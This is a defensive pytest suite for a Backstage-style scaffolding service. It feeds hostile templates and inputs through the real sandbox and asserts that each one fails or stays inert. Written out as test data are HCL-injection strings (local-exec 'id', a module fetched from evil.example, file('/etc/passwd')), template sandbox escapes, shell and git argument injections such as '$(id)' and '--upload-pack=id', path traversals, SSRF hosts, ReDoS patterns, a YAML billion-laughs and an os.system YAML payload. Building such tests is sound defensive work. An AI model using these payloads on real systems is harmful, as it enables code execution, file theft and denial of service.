"""Hostile templates and values, through the real paths. Each case says what it tries.

Numbers are those of the threats that the project keeps a list of: HCL injection (1, 2), a
template's author (3), values that are templates (4), paths (5), names (6), policies (30), and
what uses the service up (34). Secrets and other people's entities come last.
"""

import asyncio
import json
import shutil
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from landform.adapters.sandbox import SandboxRenderer
from landform.db.engine import Database
from landform.kernel.errors import DomainError
from landform.policies.models import Decision, Stage
from landform.rendering.verify import blocks
from landform.tasks.actions.shipped import shipped_actions
from landform.tasks.limits import MOST_ITEMS
from landform.tasks.models import Surroundings, Task, TaskStatus
from landform.tasks.secrets import SecretBox
from landform.tasks.service import TaskService
from landform.tasks.source import TemplateSource
from landform.tasks.workspace import Workspace
from landform.templates.files import TemplateFile as File
from tests.support.api import serving
from tests.support.builders import ANA
from tests.support.nasty import NASTY
from tests.support.publisher import HOST
from tests.support.tasks import ANA_HERSELF, KEY
from tests.support.world import World

DRY_RUN = "/api/scaffolder/v2/dry-run"
SOON = 8.0  # seconds: that a case ends, on a machine that is busy
SECRET = "canary-5e4b9d"
Steps = list[dict[str, Any]]


@dataclass
class Theatre:
    """A service with the real sandbox, and what comes of a hostile template in it."""

    world: World
    tasks: TaskService

    async def run(
        self,
        steps: Steps,
        values: dict[str, Any] | None = None,
        *,
        files: dict[str, File] | None = None,
        secrets: dict[str, str] | None = None,
        output: Any = None,
    ) -> tuple[Task, list[str], dict[str, File]]:
        """The task when it has ended, what it said, and the files that it left."""
        source = TemplateSource(document(steps, output=output), Workspace(files))
        began = time.perf_counter()
        task = await self.tasks.create(
            "template:default/hostile", source, values or {}, secrets or {}, ANA_HERSELF
        )
        await self.tasks.run(task.id)
        assert time.perf_counter() - began < SOON
        _, events = await self.tasks.events(task.id, after=0)
        dry = await self._dry(source, values or {}, secrets or {})
        return await self.tasks.get(task.id), [str(each.body) for each in events], dry

    async def _dry(
        self, source: TemplateSource, values: dict[str, Any], secrets: dict[str, str]
    ) -> dict[str, File]:
        try:
            return (await self.tasks.dry_run(source, values, secrets, None)).workspace.files
        except DomainError:
            return {}


def document(steps: Steps, *, output: Any = None, parameters: Any = None) -> dict[str, Any]:
    return {
        "apiVersion": "scaffolder.backstage.io/v1beta3",
        "kind": "Template",
        "metadata": {"name": "hostile"},
        "spec": {
            "type": "service",
            "steps": steps,
            "output": output or {},
            "parameters": parameters or [],
        },
    }


@pytest.fixture
async def db(tmp_path: Path, migrated_sqlite: Path) -> AsyncIterator[Database]:
    """SQLite alone: nothing here is about the database."""
    shutil.copy(migrated_sqlite, tmp_path / "landform.db")
    database = Database(f"sqlite:///{tmp_path / 'landform.db'}")
    yield database
    await database.close()


@pytest.fixture(scope="module")
def sandbox() -> Iterator[SandboxRenderer]:
    """One for all cases: none may harm it for the next."""
    renderer = SandboxRenderer()
    yield renderer
    asyncio.run(renderer.aclose())


@pytest.fixture
def stage(world: World, sandbox: SandboxRenderer) -> Theatre:
    actions = shipped_actions(world.catalog, world.publisher, sandbox)
    surroundings = Surroundings(hosts={HOST: "github"})
    world.tasks = TaskService(
        world.db, world.clock, actions, world.catalog, SecretBox([KEY]), surroundings
    )
    return Theatre(world, world.tasks)


def fetch(**given: Any) -> dict[str, Any]:
    values = {"v": "${{ parameters.v }}"}
    return {
        "id": f"fetch-{len(given)}",
        "action": "fetch:template",
        "input": {"url": "./skeleton", "values": values, **given},
    }


def skeleton(text: str, path: str = "a.txt") -> dict[str, File]:
    return {f"skeleton/{path}": File(text.encode())}


# ── 1, 2: a value that wants to be Terraform ─────────────────────────────────────

POSITIONS = {
    "quoted": 'locals {\n  a = "before ${{ values.v }} after"\n}\n',
    "after a dollar": 'locals {\n  a = "$${{ values.v }}"\n}\n',
    "an expression": "locals {\n  a = ${{ values.v }}\n}\n",
    "a heredoc": "locals {\n  a = <<EOT\n${{ values.v }}\nEOT\n}\n",
    "an indented heredoc": "locals {\n  a = <<-EOT\n    ${{ values.v }}\n  EOT\n}\n",
    "an object's key": "locals {\n  a = { (${{ values.v }}) = 1 }\n}\n",
    "a line comment": "# ${{ values.v }}\nlocals {\n  a = 1\n}\n",
    "a block comment": "/* ${{ values.v }} */\nlocals {\n  a = 1\n}\n",
    "dumped": "locals {\n  a = ${{ values.v | dump }}\n}\n",
}
SMUGGLED = [
    'x"\n}\nresource "null_resource" "p" {\n provisioner "local-exec" {\n command = "id"\n}\n',
    '*/\ndata "external" "x" {\n program = ["id"]\n}\n/*',
    'EOT\n}\nprovider "http" {}\nlocals {\n b = <<EOT\n',
    '\nmodule "x" {\n source = "git::https://evil.example/x"\n}\n',
    '${file("/etc/passwd")}',
]


@pytest.mark.parametrize("position", list(POSITIONS))
async def test_a_value_becomes_no_block_wherever_it_stands(stage: Theatre, position: str) -> None:
    values = {str(index): each for index, each in enumerate([*SMUGGLED, *NASTY])}
    texts = {
        f"skeleton/f{index}.tf": File(
            POSITIONS[position].replace("values.v", f"values.v[{index!r}]").encode()
        )
        for index in values
    }
    task, _, made = await stage.run([fetch()], {"v": values}, files=texts)

    assert task.status is TaskStatus.COMPLETED, task
    assert len(made) == len(values)
    for path, file in made.items():
        assert blocks(path, file.content.decode()) == [("locals",)]


@pytest.mark.parametrize(
    "text",
    [
        'resource "null_resource" "${{ values.v }}" {}\n',
        "${{ values.v }} {}\n",
        'locals {\n  a = "\\${{ values.v }}"\n}\n',
        "locals {\n  a = 1${{ values.v }}\n}\n",
        "locals {\n  a = ${{ values.v }}(1)\n}\n",
    ],
)
async def test_a_value_that_is_no_name_is_refused_where_only_a_name_can_stand(
    stage: Theatre, text: str
) -> None:
    for value in SMUGGLED:
        task, said, made = await stage.run([fetch()], {"v": value}, files=skeleton(text, "a.tf"))

        assert task.status is TaskStatus.FAILED
        assert "a.tf:" in "".join(said)
        assert made == {}


@pytest.mark.parametrize("path", ["a.tf.json", "a.tftpl"])
async def test_where_no_escape_is_safe_a_value_that_could_be_code_is_refused(
    stage: Theatre, path: str
) -> None:
    task, _, made = await stage.run(
        [fetch()], {"v": '${file("/etc/passwd")}'}, files=skeleton('{"a": "${{ values.v }}"}', path)
    )

    assert task.status is TaskStatus.FAILED
    assert made == {}


@pytest.mark.parametrize("value", SMUGGLED)
async def test_a_stack_keeps_what_was_typed_as_data(world: World, value: str) -> None:
    shown = await world.previews.preview(
        world.templates.get("probe"),
        {"name": "orders", "environment": "dev", "owner": "group:default/payments", "note": value},
        await world.subject(ANA),
    )

    for path, text in ((each.path, each.text) for each in shown.files):
        if path.endswith(".tf"):
            assert not any(word in text for word in ("local-exec", "external", "evil", "passwd"))
        elif path.endswith(".json"):
            assert json.loads(text)["note"] == value


# ── 3: a template's author ───────────────────────────────────────────────────────

ESCAPES = {
    "a walk to Python's classes": "${{ values.__class__.__mro__[1].__subclasses__() }}",
    "a walk through a text": "${{ ''.__class__ }}${{ values.v.__init__.__globals__ }}",
    "JavaScript's constructor": '${{ values.constructor.constructor("return process")() }}',
    "the same by a key": '${{ values["constr" + "uctor"]["constructor"]("return 1")() }}',
    "a prototype": "${{ values.__proto__ }}",
    "a function's own": "${{ range.constructor }}${{ range.__globals__ }}",
    "Python's format": "${{ '{0.__class__}'.format(values) }}",
    "a file of the machine": '{% include "/etc/passwd" %}',
    "a module": '{% import "os" as os %}',
    "another template": '{% extends "../../secrets" %}',
    "the environment": "${{ process.env }}${{ environ }}${{ self }}${{ request }}",
}
GREEDY = {
    "a text repeated": "${{ 'a' * 100000000 }}",
    "a width": "${{ 'x' | center(1000000000) }}",
    "a format's width": "${{ '%1000000000d' | format(1) }}",
    "an indent": "${{ values.v | dump(100000000) }}${{ 'a\\nb' | indent(100000000) }}",
    "a text doubled": "{% set x = 'ab' %}"
    "{% for i in range(60) %}{% set x = x + x %}{% endfor %}${{ x }}",
    "a list doubled": "{% set x = [1] %}"
    "{% for i in range(60) %}{% set x = x.concat(x) %}{% endfor %}",
    "a million loops": "{% for i in range(1000) %}"
    "{% for j in range(1000) %}${{ j }}{% endfor %}{% endfor %}",
    "a long range": "{% for i in range(1000000000000) %}{% endfor %}",
    "a macro that calls itself": "{% macro a() %}${{ a() }}${{ a() }}{% endmacro %}${{ a() }}",
    "brackets": "${{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "lists in lists": "${{ " + "[" * 5000 + "]" * 5000 + " }}",
    "tags in tags": "{% if 1 %}" * 3000 + "{% endif %}" * 3000,
    "a power of a power": "${{ 9 ** 9 ** 9 ** 9 }}${{ (9 ** 999999) | string }}",
    "a number's digits": "${{ 1.5 | round(1000000000) }}${{ '1' | int(0, 1000000000) }}",
    "a batch": "${{ [1] | batch(1000000000, 'x') }}",
    "slices": "${{ [1] | slice(1000000000, 'x') }}",
    "a pattern that goes back": "${{ r/^(a+)+$/.test(values.long) }}",
    "a replacement of everything": "${{ values.long | replace('', values.long) }}",
    "tags that do not close": "${{ ('<' + values.long | replace('a', '<')) | striptags }}",
    "links": "${{ values.long | replace('a', 'www.') | urlize }}",
    "a sort of many": "{% for i in range(2000) %}${{ range(2000) | sort | first }}{% endfor %}",
}


@pytest.mark.parametrize("name", list(ESCAPES))
async def test_an_author_reaches_nothing_but_values(stage: Theatre, name: str) -> None:
    task, said, made = await stage.run([fetch()], {"v": "x"}, files=skeleton(ESCAPES[name]))

    text = "".join(file.content.decode() for file in made.values())
    assert not any(word in text for word in ("object", "function", "<class", "root:", "PATH"))
    assert (task.status is TaskStatus.FAILED) or not text.strip()
    assert "Traceback" not in "".join(said)


@pytest.mark.parametrize("name", list(ESCAPES))
async def test_an_author_reaches_nothing_from_a_step_either(stage: Theatre, name: str) -> None:
    hostile = ESCAPES[name].replace("values", "parameters")
    task, _, _ = await stage.run(
        [{"id": "say", "action": "debug:log", "input": {"message": f"got:{hostile}"}}], {"v": "x"}
    )

    if task.status is TaskStatus.COMPLETED:
        _, events = await stage.tasks.events(task.id, after=0)
        assert any(each.body["message"].rstrip() == "info: got:" for each in events)


@pytest.mark.parametrize("name", list(GREEDY))
async def test_an_author_who_wants_too_much_gets_an_error_soon(stage: Theatre, name: str) -> None:
    step = {"values": {"v": ["x"], "long": "a" * 50_000 + "!"}}
    task, said, made = await stage.run([fetch(**step)], {"v": "x"}, files=skeleton(GREEDY[name]))

    assert (
        task.status is TaskStatus.FAILED or sum(len(each.content) for each in made.values()) < 10**6
    )
    assert "Traceback" not in "".join(said)


@pytest.mark.parametrize("name", list(GREEDY))
async def test_an_author_who_wants_too_much_of_a_step_gets_an_error_soon(
    stage: Theatre, name: str
) -> None:
    hostile = GREEDY[name].replace("values", "parameters")
    task, said, _ = await stage.run(
        [{"id": "say", "action": "debug:log", "input": {"message": hostile}}],
        {"v": ["x"], "long": "a" * 50_000 + "!"},
    )

    assert task.status is TaskStatus.FAILED or len("".join(said)) < 10**6


# ── 4: a value that is a template ────────────────────────────────────────────────

TEMPLATES = [
    "${{ 7 * 7 }}",
    "{% for i in range(9) %}x{% endfor %}",
    "{{ 7 * 7 }}",
    "${{ secrets.token }}",
]


@pytest.mark.parametrize("value", TEMPLATES)
async def test_a_value_that_is_a_template_stays_what_was_typed(stage: Theatre, value: str) -> None:
    steps = [
        fetch(),
        {
            "id": "write",
            "action": "catalog:write",
            "input": {"entity": {"kind": "X", "title": "${{ parameters.v }}"}},
        },
    ]
    task, _, made = await stage.run(
        steps,
        {"v": value},
        files=skeleton("${{ values.v }}"),
        secrets={"token": SECRET},
        output={"v": "${{ parameters.v }}", "text": "it is ${{ parameters.v }}"},
    )

    assert made["a.txt"].content.decode() == value
    assert value in made["catalog-info.yaml"].content.decode()
    assert task.output == {"v": value, "text": f"it is {value}"}


# ── 5: a path that leads out ─────────────────────────────────────────────────────

OUT = [
    "../out",
    "/etc/passwd",
    "a/../../b",
    "~/x",
    "..\\..\\x",
    "a\0b",
    ".git/hooks/pre-commit",
    "x/.GIT/config",
]


@pytest.mark.parametrize(
    "path", [*OUT, "file:///etc/passwd", "https://evil.example/x", "%2e%2e/%2e%2e"]
)
@pytest.mark.parametrize("action", ["fetch:plain", "fetch:template"])
async def test_nothing_is_fetched_from_outside_the_template(
    stage: Theatre, action: str, path: str
) -> None:
    steps = [{"id": "f", "action": action, "input": {"url": "${{ parameters.v }}"}}]
    try:
        task, _, made = await stage.run(steps, {"v": path}, files=skeleton("x"))
    except DomainError:
        assert "\0" in path  # no text that a form takes
        return

    assert task.status is TaskStatus.FAILED
    assert made == {}


PLACES: dict[str, Steps] = {
    "fetch:template": [fetch(targetPath="${{ parameters.p }}")],
    "fetch:plain": [
        {
            "id": "f",
            "action": "fetch:plain",
            "input": {"url": "./skeleton", "targetPath": "${{ parameters.p }}"},
        }
    ],
    "fetch:plain:file": [
        {
            "id": "f",
            "action": "fetch:plain:file",
            "input": {"url": "./skeleton/a.txt", "targetPath": "${{ parameters.p }}"},
        }
    ],
    "catalog:write": [
        {
            "id": "w",
            "action": "catalog:write",
            "input": {"entity": {}, "filePath": "${{ parameters.p }}"},
        }
    ],
    "fs:rename": [
        fetch(),
        {
            "id": "m",
            "action": "fs:rename",
            "input": {"files": [{"from": "a.txt", "to": "${{ parameters.p }}"}]},
        },
    ],
    "publish:github": [
        fetch(),
        {
            "id": "p",
            "action": "publish:github",
            "input": {"repoUrl": f"{HOST}?owner=acme&repo=x", "sourcePath": "${{ parameters.p }}"},
        },
    ],
}


@pytest.mark.parametrize("path", OUT)
@pytest.mark.parametrize("action", list(PLACES))
async def test_nothing_is_written_outside_the_workspace(
    stage: Theatre, action: str, path: str
) -> None:
    values = {"v": "x", "p": path}
    source = TemplateSource(document(PLACES[action]), Workspace(skeleton("x")))
    try:
        task = await stage.tasks.create("template:default/h", source, values, {}, ANA_HERSELF)
    except DomainError:
        assert "\0" in path  # no text that a form takes
        return
    await stage.tasks.run(task.id)

    assert (await stage.tasks.get(task.id)).status is TaskStatus.FAILED
    assert stage.world.publisher.repositories == {}


@pytest.mark.parametrize("value", [*OUT, "con", "a:b", "x ", "x.", "git~1", "\u200b", ".."])
async def test_a_value_in_a_file_name_leads_nowhere_else(stage: Theatre, value: str) -> None:
    files = skeleton("x", "d/${{ values.v }}/f.txt")
    try:
        _, _, made = await stage.run([fetch()], {"v": value}, files=files)
    except DomainError:
        assert "\0" in value
        return

    # A tilde in the midst of a path is a name as any other.
    assert list(made) == (["d/~/x/f.txt"] if value == "~/x" else [])


@pytest.mark.parametrize(
    "target", ["/etc/passwd", "../../x", "../../../nowhere", "..", ".git/config"]
)
async def test_a_link_that_leads_out_is_not_rendered(stage: Theatre, target: str) -> None:
    files = {"skeleton/link": File(target.encode(), is_symlink=True)}

    task, _, made = await stage.run([fetch()], {"v": "x"}, files=files)

    assert task.status is TaskStatus.FAILED
    assert made == {}


@pytest.mark.parametrize("target", ["/etc/passwd", "../../x"])
async def test_a_link_that_leads_out_is_not_published(stage: Theatre, target: str) -> None:
    files = {"skeleton/link": File(target.encode(), is_symlink=True), **skeleton("x")}
    steps = [
        {"id": "f", "action": "fetch:plain", "input": {"url": "./skeleton"}},
        {"id": "p", "action": "publish:github", "input": {"repoUrl": f"{HOST}?owner=acme&repo=x"}},
    ]

    task, _, _ = await stage.run(steps, files=files)

    assert task.status is TaskStatus.FAILED
    assert stage.world.publisher.repositories == {}


# ── 6: a name that wants to be a command ─────────────────────────────────────────

COMMANDS = [
    "--upload-pack=id",
    "-x",
    "a;id",
    "$(id)",
    "`id`",
    "a|b",
    "a b",
    "a\nb",
    "@{-1}",
    "..",
    "~",
    "a&b",
]


@pytest.mark.parametrize("name", COMMANDS)
@pytest.mark.parametrize("place", ["owner", "repo", "branch", "default"])
async def test_a_name_reaches_git_only_if_it_is_one(stage: Theatre, place: str, name: str) -> None:
    owner, repo = (name if place == each else "acme" for each in ("owner", "repo"))
    given: dict[str, Any] = {"repoUrl": f"{HOST}?owner={owner}&repo={repo}"}
    if place == "branch":
        stage.world.publisher.add_repository("acme/acme", {"README.md": "x"})
        given |= {"branchName": name, "title": "x", "description": "x"}
    elif place == "default":
        given |= {"defaultBranch": name}
    action = "publish:github:pull-request" if place == "branch" else "publish:github"

    task, _, _ = await stage.run(
        [fetch(), {"id": "p", "action": action, "input": given}], {"v": "x"}, files=skeleton("x")
    )

    # "a&b" ends the owner: what is left is a name, of a repository that may be made.
    if "&" in name and place in ("owner", "repo"):
        assert set(stage.world.publisher.repositories) <= {"a/acme", "acme/a"}
        return
    assert task.status is TaskStatus.FAILED
    assert set(stage.world.publisher.repositories) <= {"acme/acme"}
    assert stage.world.publisher.proposals == {}


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        f"{HOST}.evil.example",
        f"{HOST}@evil.example",
        f"x:y@{HOST}",
        f"{HOST}:8080",
        "169.254.169.254",
    ],
)
async def test_nothing_is_published_to_a_foreign_host(stage: Theatre, host: str) -> None:
    steps = [
        fetch(),
        {"id": "p", "action": "publish:github", "input": {"repoUrl": f"{host}?owner=a&repo=b"}},
    ]

    task, _, _ = await stage.run(steps, {"v": "x"}, files=skeleton("x"))

    assert task.status is TaskStatus.FAILED
    assert stage.world.publisher.repositories == {}


@pytest.mark.parametrize("name", COMMANDS)
@pytest.mark.parametrize("field_", ["name", "environment", "owner"])
async def test_a_stack_has_a_safe_directory_or_none(world: World, field_: str, name: str) -> None:
    given = {"name": "orders", "environment": "dev", "owner": "group:default/payments"}

    with pytest.raises(DomainError):
        await world.previews.preview(
            world.templates.get("probe"),
            given | {field_: name},
            await world.subject(ANA),
        )


# ── 30: policies that do not answer, or oddly ────────────────────────────────────


@pytest.mark.parametrize(
    "answer",
    [None, {}, {"deny": None}, {"deny": "no"}, {"deny": [1]}, {"deny": {"a": 1}}, {"allow": True}],
)
async def test_an_odd_answer_of_the_policies_allows_nothing(world: World, answer: Any) -> None:
    world.engine.answers = {} if answer is None else {Stage.REQUEST: answer}
    given = {"name": "orders", "environment": "dev", "owner": "group:default/payments"}

    try:
        shown = await world.previews.preview(
            world.templates.get("probe"),
            given,
            await world.subject(ANA),
        )
    except DomainError:
        return
    assert shown.report.decision is not Decision.ALLOW


async def test_a_policy_engine_that_is_down_allows_nothing(world: World) -> None:
    world.engine.failure = "timed out"
    given = {"name": "orders", "environment": "dev", "owner": "group:default/payments"}

    async with serving(world) as client:
        answer = await client.post(
            "/api/landform/v1/previews", json={"template": "probe", "parameters": given}
        )

    assert answer.json()["policy"]["decision"] != "allow"


# ── 34: forms and tasks that would use the service up ────────────────────────────


def chain(keyword: str, length: int = 40) -> dict[str, Any]:
    """Each definition names the next one twice."""
    twice = {
        f"a{index}": {keyword: [{"$ref": f"#/definitions/a{index + 1}"}] * 2}
        for index in range(length)
    }
    last = {f"a{length}": {"type": "number"}}
    return {"definitions": twice | last, "properties": {"x": {"$ref": "#/definitions/a0"}}}


def deep(keyword: str, levels: int) -> dict[str, Any]:
    found: dict[str, Any] = {}
    for _ in range(levels):
        found = {keyword: [found]} if keyword.endswith("Of") else {keyword: found}
    return found


def with_pattern(pattern: str) -> dict[str, Any]:
    return {"properties": {"x": {"type": "string", "pattern": pattern}}}


FORMS: dict[str, tuple[Any, Any]] = {
    "a pattern that goes back": (with_pattern("^(a+)+$"), "a" * 50_000 + "!"),
    "one that looks ahead": (with_pattern("^(?=a)(a|aa)+$"), "a" * 50_000 + "!"),
    "one that refers back": (with_pattern(r"^(?:(a+)\1*)+b$"), "a" * 50_000 + "!"),
    "one that is huge": (with_pattern("((a{1000}){1000}){1000}"), "a"),
    "a $ref to itself": ({"properties": {"x": {"$ref": "#/properties/x"}}}, "a"),
    "two to each other": (
        {
            "definitions": {"a": {"$ref": "#/definitions/b"}, "b": {"$ref": "#/definitions/a"}},
            "properties": {"x": {"$ref": "#/definitions/a"}},
        },
        "a",
    ),
    "a tree of all of": (chain("allOf"), "a"),
    "a tree of any of": (chain("anyOf"), "a"),
    "a tree of one of": (chain("oneOf"), "a"),
    "a $ref back in two ways": (
        {"properties": {"x": {"anyOf": [{"$ref": "#"}, {"$ref": "#"}]}}},
        {"x": {}},
    ),
    "names that hide a tree": (
        {"properties": {"default": chain("allOf")["properties"]["x"]}, **chain("allOf")},
        "a",
    ),
    "an $id that moves a $ref": (
        {
            "properties": {
                "x": {"$id": "http://x/", **chain("allOf"), "allOf": [{"$ref": "#/properties/x"}]}
            }
        },
        "a",
    ),
    "a $ref to the network": ({"properties": {"x": {"$ref": "http://127.0.0.1:1/x"}}}, "a"),
    "a $ref to a file": ({"properties": {"x": {"$ref": "file:///etc/passwd"}}}, "a"),
    "a $schema of the network": ({"$schema": "http://127.0.0.1:1/x"}, "a"),
    "all of all of": (deep("allOf", 200), "a"),
    "not not": (deep("not", 240), "a"),
    "no object": ("text", "a"),
    "a list for an object": ({"properties": []}, "a"),
    "a hundred thousand fields": (
        {"properties": {f"f{index}": {"type": "string"} for index in range(100_000)}},
        "a",
    ),
    "a long list of choices": (
        {"properties": {"x": {"enum": [str(index) for index in range(200_000)]}}},
        "a",
    ),
}
CHEAP: Steps = [{"id": "say", "action": "debug:log", "input": {"message": "done"}}]


@pytest.mark.parametrize("name", list(FORMS))
async def test_no_form_keeps_the_service_busy(stage: Theatre, name: str) -> None:
    form, value = FORMS[name]
    body = {"template": document(CHEAP, parameters=[form]), "values": {"x": value}}
    async with serving(stage.world) as client:
        began = time.perf_counter()
        answer = await client.post(DRY_RUN, json=body)
        took = time.perf_counter() - began

    assert answer.status_code in (200, 400), answer.text[:500]
    assert took < SOON
    assert "root:" not in answer.text


BODIES: dict[str, dict[str, Any]] = {
    "ten megabytes of text": {"values": {"x": "a" * 11_000_000}},
    "a million labels": {"values": {"labels": {f"l{index}": "x" for index in range(1_000_000)}}},
    "a list of lists of lists": {"values": {"x": json.loads("[" * 300 + "]" * 300)}},
    "a long number": {"values": {"x": 10**400}},
    "steps without end": {"template": document(CHEAP * 5_000)},
    "a step that is none": {"template": document([{"action": "debug:log", "input": 5}])},
    "an each that is none": {"template": document([CHEAP[0] | {"each": 5}])},
    "an id that is a list": {"template": document([CHEAP[0] | {"id": ["x"]}])},
    "a file out of place": {"directoryContents": [{"path": "../x", "base64Content": ""}]},
    "a form that is a text": {"template": document(CHEAP, parameters="text")},
    "secrets of a text": {
        "template": {**document(CHEAP), "spec": {"steps": CHEAP, "secrets": "x"}}
    },
}


@pytest.mark.parametrize("name", list(BODIES))
async def test_no_body_makes_the_service_stumble(stage: Theatre, name: str) -> None:
    body = {"template": document(CHEAP), "values": {}} | BODIES[name]
    async with serving(stage.world) as client:
        began = time.perf_counter()
        answer = await client.post(DRY_RUN, content=json.dumps(body))
        took = time.perf_counter() - began

    assert answer.status_code < 500, answer.text[:500]
    assert took < SOON


@pytest.mark.parametrize(
    "each",
    ["${{ range(2000) }}", ["x"] * (MOST_ITEMS + 1), {str(index): 1 for index in range(5000)}],
)
async def test_a_step_is_not_repeated_without_end(stage: Theatre, each: Any) -> None:
    task, said, _ = await stage.run([CHEAP[0] | {"each": each}])

    assert task.status is TaskStatus.FAILED
    assert f"A task may have {MOST_ITEMS} items of each" in "".join(said)


async def test_a_workspace_does_not_grow_without_end(stage: Theatre) -> None:
    files = {f"skeleton/{index}.txt": File(b"x" * 2_000) for index in range(100)}
    step = {
        "id": "f",
        "action": "fetch:plain",
        "each": "${{ range(900) }}",
        "input": {"url": "./skeleton", "targetPath": "d${{ each.key }}"},
    }

    task, said, _ = await stage.run([step], files=files)

    assert task.status is TaskStatus.FAILED
    assert "The files of a task may have" in "".join(said)


async def test_a_log_does_not_grow_without_end(stage: Theatre) -> None:
    step = {
        "id": "say",
        "action": "debug:log",
        "each": "${{ range(400) }}",
        "input": {"message": "${{ parameters.x }}"},
    }

    task, said, _ = await stage.run([step], {"x": "a" * 60_000})

    assert task.status is TaskStatus.COMPLETED
    assert len("".join(said)) < 12 * 2**20
    assert "The log of this task is full" in "".join(said)


# ── secrets, and what is somebody else's ─────────────────────────────────────────

LEAKS: dict[str, Steps] = {
    "a message": [
        {"id": "a", "action": "debug:log", "input": {"message": "it is ${{ secrets.token }}"}}
    ],
    "a message upside down": [
        {"id": "a", "action": "debug:log", "input": {"message": "${{ secrets.token | reverse }}"}}
    ],
    "a message letter by letter": [
        {
            "id": "a",
            "action": "debug:log",
            "input": {"message": "${{ secrets.token | list | join('-') }}"},
        }
    ],
    "a file's name": [
        fetch(values={"v": "${{ secrets.token | list | join('-') }}"}),
        {"id": "b", "action": "debug:log", "input": {"listWorkspace": True}},
    ],
    "a file's text": [
        fetch(values={"v": "x", "w": "${{ secrets.token }}"}),
        {"id": "b", "action": "debug:log", "input": {"listWorkspace": "with-contents"}},
    ],
    "an error": [
        {
            "id": "a",
            "action": "fs:rename",
            "input": {"files": [{"from": "${{ secrets.token }}", "to": "x"}]},
        }
    ],
    "an address": [
        {"id": "a", "action": "fetch:plain", "input": {"url": "https://x/${{ secrets.token }}"}}
    ],
    "what it is repeated for": [
        {
            "id": "a",
            "action": "debug:log",
            "each": ["${{ secrets.token }}"],
            "input": {"message": "x"},
        }
    ],
    "the name of an action's input": [
        {
            "id": "a",
            "action": "catalog:write",
            "input": {"filePath": "${{ secrets.token }}/x", "entity": {}},
        },
        {"id": "b", "action": "fs:delete", "input": {"files": ["${{ secrets.token }}/x"]}},
    ],
}
FORMS_OF_IT = [SECRET, SECRET[::-1], "-".join(SECRET)]


@pytest.mark.parametrize("name", list(LEAKS))
async def test_a_template_tells_nobody_a_secret(stage: Theatre, name: str) -> None:
    files = {
        "skeleton/${{ values.v }}.txt": File(b"x"),
        "skeleton/b.txt": File(b"${{ values.w | list | join('-') }}"),
    }

    task, said, _ = await stage.run(LEAKS[name], {"v": "x"}, files=files, secrets={"token": SECRET})

    told = "".join(said) + str(task)
    assert not [form for form in FORMS_OF_IT if form in told]


OTHERS = {
    "a group": "kind: Group\nmetadata: {name: platform-team}\nspec: {type: team, children: []}\n",
    "oneself as a member": "kind: User\nmetadata: {name: ana}\nspec: {memberOf: [platform-team]}\n",
    "a template": "kind: Template\nmetadata: {name: probe}\nspec: {type: x, steps: []}\n",
    "a location": "kind: Location\nmetadata: {name: x}\nspec: {target: 'file:///etc/passwd'}\n",
    "aliases": "kind: Component\nmetadata: &a {name: x}\nspec: {x: *a}\n",
    "a bomb": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b]\n",
    "a Python object": "!!python/object/apply:os.system ['id']\n",
    "no entity": "- 1\n",
}


@pytest.mark.parametrize("name", list(OTHERS))
async def test_a_task_registers_only_what_is_its_own(stage: Theatre, name: str) -> None:
    text = (
        f"apiVersion: backstage.io/v1alpha1\n{OTHERS[name]}"
        if "kind" in OTHERS[name]
        else OTHERS[name]
    )
    stage.world.publisher.add_repository("acme/x", {"catalog-info.yaml": text})
    url = f"https://{HOST}/acme/x/blob/master/catalog-info.yaml"
    before = await stage.world.catalog.memberships(ANA)

    task, _, _ = await stage.run(
        [{"id": "r", "action": "catalog:register", "input": {"catalogInfoUrl": url}}]
    )

    assert task.status is TaskStatus.FAILED
    assert await stage.world.catalog.memberships(ANA) == before
